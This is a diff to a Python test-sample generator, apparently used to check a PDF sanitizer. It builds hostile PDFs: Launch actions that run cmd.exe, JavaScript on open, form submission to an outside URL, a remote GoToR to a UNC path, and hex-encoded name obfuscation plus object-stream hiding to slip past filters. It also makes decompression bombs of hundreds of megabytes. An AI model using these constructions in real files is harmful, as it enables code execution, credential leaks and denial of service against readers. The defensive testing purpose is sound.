@@ -52,6 +52,7 @@ ACTIVOS: dict[str, tuple[bytes, bytes, list[bytes]]] = {
     "js que nadie nombra": (b"", b"", [JS]),
     "lanza un programa": (b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"", []),
     "lanza desde un enlace": (b"", accion(b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"), []),
+    "lanza, con la clase en otro objeto": (b"", accion(b"/S 5 0 R /F (cmd.exe)"), [b"/Launch"]),
     "envia el formulario": (b"", accion(b"/S /SubmitForm /F << /FS /URL /F (https://x.co) >>"), []),
     "importa datos": (b"", accion(b"/S /ImportData /F (x.fdf)"), []),
     "va a otro archivo": (b"", accion(b"/S /GoToR /F (\\\\\\\\1.2.3.4\\\\x) /D [0 /Fit]"), []),
@@ -82,27 +83,42 @@ ACTIVOS: dict[str, tuple[bytes, bytes, list[bytes]]] = {
 }
 
 
+ESCONDIBLES = (
+    "js al abrir",
+    "js en la pagina",
+    "lanza un programa",
+    "adjunto en una nota",
+    "xfa",
+    "envia el formulario",
+    "lanza, con la clase en otro objeto",
+)
+
+
 def activos() -> Iterator[Muestra]:
-    for nombre, (catalogo, pagina, otros) in ACTIVOS.items():
-        entero = pdf(catalogo, pagina, otros)
-        yield nombre, entero
-        if nombre not in (
-            "js que nadie nombra",
-            "adjunto suelto",
-            "postscript",
-            "flujo de otro archivo",
-            "flujo cifrado aparte",
-        ):
-            yield f"{nombre}, en flujos de objetos", en_flujos(entero)  # writing it again drops what nobody names
-    for nombre in ("js al abrir", "lanza un programa", "js en la pagina", "xfa"):
-        yield f"{nombre}, con nombres en clave", en_clave(pdf(*ACTIVOS[nombre]))
-        yield f"{nombre}, linealizado", otra_vez(pdf(*ACTIVOS[nombre]), linearize=True)
+    for nombre, partes in ACTIVOS.items():
+        yield nombre, pdf(*partes)
+    for nombre in ESCONDIBLES:
+        entero = pdf(*ACTIVOS[nombre])
+        yield f"{nombre}, en flujos de objetos", en_flujos(entero)
+        yield f"{nombre}, con nombres en clave", en_clave(entero)
+        yield f"{nombre}, con nombres en clave y en flujos", en_flujos(en_clave(entero))
+        yield f"{nombre}, linealizado", otra_vez(entero, linearize=True)
     yield "js en la revision anterior", pdf(b"/OpenAction " + JS) + pdf()[9:]
 
 
 def en_clave(contenido: bytes) -> bytes:
     """Names may spell any letter by its number."""
-    for nombre in (b"JavaScript", b"Launch", b"OpenAction", b"XFA", b"JS", b"AA"):
+    for nombre in (
+        b"JavaScript",
+        b"Launch",
+        b"OpenAction",
+        b"XFA",
+        b"JS",
+        b"AA",
+        b"SubmitForm",
+        b"EF",
+        b"FileAttachment",
+    ):
         contenido = contenido.replace(
             b"/" + nombre + b" ", b"/" + b"".join(b"#%02x" % letra for letra in nombre) + b" "
         )
@@ -197,10 +213,10 @@ def imagen(ancho: int, alto: int, datos: bytes, mas: bytes, veces: int = 1) -> b
 
 
 def bombas() -> Iterator[Muestra]:
-    gorda = zlib.compress(bytes(400 * 2**20), 9)
-    yield "contenido de 400 MB", pdf(contenido=flujo(gorda, b"/Filter /FlateDecode"))
+    gorda = zlib.compress(bytes(200 * 2**20), 9)
+    yield "contenido de 200 MB", pdf(contenido=flujo(gorda, b"/Filter /FlateDecode"))
     yield (
-        "contenido de 400 MB, comprimido dos veces",
+        "contenido de 200 MB, comprimido dos veces",
         pdf(contenido=flujo(zlib.compress(gorda, 9), b"/Filter [/FlateDecode /FlateDecode]")),
     )
     yield "un flujo de 100 MB que nadie usa", pdf(otros=[flujo(bytes(100 * 2**20), comprimido=True)])
@@ -209,8 +225,8 @@ def bombas() -> Iterator[Muestra]:
         "contenido que repite sin fin",
         pdf(contenido=flujo(zlib.compress(b"0 0 m 600 700 l S " * 3_000_000, 9), b"/Filter /FlateDecode")),
     )
-    yield "flujo de objetos de 400 MB", con_flujo_de_objetos(gorda, b"/Type /ObjStm /N 1000000 /First 10")
-    yield "tabla de referencias de 400 MB", referencias(gorda, b"/Size 80000000 /W [1 2 2]")
+    yield "flujo de objetos de 200 MB", con_flujo_de_objetos(gorda, b"/Type /ObjStm /N 1000000 /First 10")
+    yield "tabla de referencias de 200 MB", referencias(gorda, b"/Size 80000000 /W [1 2 2]")
     yield "tabla de dos mil millones", armar(UNA_PAGINA, b"/Size 2147483647")
     yield (
         "tabla con indice enorme",
